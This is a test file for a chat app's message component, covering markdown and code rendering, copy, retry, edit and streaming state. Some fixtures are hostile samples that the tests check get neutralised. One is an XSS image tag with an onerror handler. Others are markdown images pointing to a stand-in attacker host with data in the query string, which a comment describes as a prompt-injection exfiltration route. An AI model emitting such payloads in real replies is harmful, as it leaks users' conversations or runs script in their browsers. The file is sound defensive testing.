import { render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";

import { MessageItem } from "@/features/chat/components/MessageItem";
import type { DisplayMessage } from "@/features/chat/hooks/live-store";

const base: DisplayMessage = {
  id: "A1",
  conversationId: "C",
  authorId: "assistant",
  role: "assistant",
  content: "Here:\n\n```python\nprint('hi')\n```\n\n<img src=x onerror=alert(1)>",
  status: "complete",
  usage: { inputTokens: 12, outputTokens: 34 },
  replyTo: "U1",
  createdAt: "t",
  updatedAt: "t",
};

describe("MessageItem", () => {
  it("renders markdown with a lazily highlighted code block and no raw HTML", async () => {
    const { container } = render(<MessageItem message={base} mine={false} actions={{}} />);
    await waitFor(() => expect(container.querySelector("code.hljs .hljs-built_in")).not.toBeNull(), { timeout: 5000 });
    expect(screen.getByText("python")).toBeInTheDocument();
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getByText("12 in · 34 out tokens")).toBeInTheDocument();
  });

  it("shows a markdown image as a link with its full address and never loads it", async () => {
    // A prompt-injected reply would leak the conversation through an image's query string.
    const content = [
      "Look: ![chart](https://attacker.example/c.png?d=SECRET)",
      "",
      "And ![logo][ref] too.",
      "",
      "[![badge](https://attacker.example/b.png?d=X)](https://example.com/docs)",
      "",
      "[ref]: https://attacker.example/r.png?d=MORE",
    ].join("\n");
    const { container } = render(<MessageItem message={{ ...base, content }} mine={false} actions={{}} />);
    await waitFor(() => expect(container.querySelector(".markdown")).not.toBeNull(), { timeout: 4000 });
    expect(container.querySelector("img, picture, source, image")).toBeNull();
    const link = screen.getByRole("link", { name: /chart/ });
    expect(link).toHaveAttribute("href", "https://attacker.example/c.png?d=SECRET");
    expect(link).toHaveTextContent("https://attacker.example/c.png?d=SECRET");
    expect(screen.getByRole("link", { name: /logo/ })).toHaveAttribute("href", "https://attacker.example/r.png?d=MORE");
    // An image inside a link leaves the link and its alt text.
    expect(screen.getByRole("link", { name: "[Image “badge”]" })).toHaveAttribute("href", "https://example.com/docs");
    expect(container.querySelector('a[href*="b.png"]')).toBeNull();
    expect(document.querySelector("link[rel=preload], link[rel=prefetch], img")).toBeNull();
  });

  it("labels a streaming code block with its language only once the fence names it, never 'text'", async () => {
    // Text shown as it arrives (reduced motion), so each step is the text under test, unpaced.
    vi.stubGlobal("matchMedia", (query: string) => ({ matches: query.includes("reduce"), addEventListener() {}, removeEventListener() {} }));
    onTestFinished(() => void vi.unstubAllGlobals());
    const streaming: DisplayMessage = { ...base, status: "streaming", usage: undefined };
    const { container, rerender } = render(<MessageItem message={{ ...streaming, content: "Here:\n\n```" }} mine={false} actions={{}} />);
    const label = () => container.querySelector(".code-language")?.textContent ?? null;
    await waitFor(() => expect(container.querySelector(".code-block")).not.toBeNull(), { timeout: 4000 });
    expect(label()).toBe("");
    rerender(<MessageItem message={{ ...streaming, content: "Here:\n\n```pyt" }} mine={false} actions={{}} />);
    expect(label()).toBe("");
    rerender(<MessageItem message={{ ...streaming, content: "Here:\n\n```python\nprint(" }} mine={false} actions={{}} />);
    expect(label()).toBe("python");
    rerender(<MessageItem message={{ ...streaming, content: "Plain:\n\n```\nsome output\n```" }} mine={false} actions={{}} />);
    expect(label()).toBe("");
    expect(screen.queryByText("text")).toBeNull();
    expect(screen.getByLabelText("Code")).toBeInTheDocument();
  });

  it("copies a code block", async () => {
    const user = userEvent.setup();
    render(<MessageItem message={base} mine={false} actions={{}} />);
    await user.click(await screen.findByRole("button", { name: "Copy code" }));
    await expect(navigator.clipboard.readText()).resolves.toBe("print('hi')");
    expect(screen.getByRole("button", { name: "Copied" })).toBeInTheDocument();
  });

  it("shows a failure with Retry", async () => {
    const onRetry = vi.fn();
    render(
      <MessageItem
        message={{ ...base, content: "", status: "failed", failure: { reason: "model timed out", retryable: true } }}
        mine={false}
        actions={{ onRetry }}
      />,
    );
    expect(screen.getByRole("alert")).toHaveTextContent("The assistant could not answer: model timed out");
    await userEvent.click(screen.getByRole("button", { name: "Retry" }));
    expect(onRetry).toHaveBeenCalled();
  });

  it("offers no Retry for a failure that cannot be retried", () => {
    render(<MessageItem message={{ ...base, status: "failed", failure: { reason: "quota", retryable: false } }} mine={false} actions={{ onRetry: vi.fn() }} />);
    expect(screen.queryByRole("button", { name: "Retry" })).toBeNull();
  });

  it("edits and resends the user's message", async () => {
    const onEdit = vi.fn();
    const mine: DisplayMessage = { ...base, id: "U1", role: "user", authorId: "me", content: "helo", usage: null };
    render(<MessageItem message={mine} mine actions={{ onEdit }} />);
    await userEvent.click(screen.getByRole("button", { name: "Edit" }));
    const box = screen.getByRole("textbox", { name: "Edit message" });
    await userEvent.clear(box);
    await userEvent.type(box, "hello{Enter}");
    expect(onEdit).toHaveBeenCalledWith("hello");
  });

  it("marks a streaming reply busy and hides its actions until it ends", () => {
    render(<MessageItem message={{ ...base, status: "streaming", content: "Par" }} mine={false} actions={{ onRegenerate: vi.fn() }} />);
    expect(screen.getByRole("article")).toHaveAttribute("aria-busy", "true");
    expect(screen.queryByRole("button", { name: "Regenerate" })).toBeNull();
  });
});
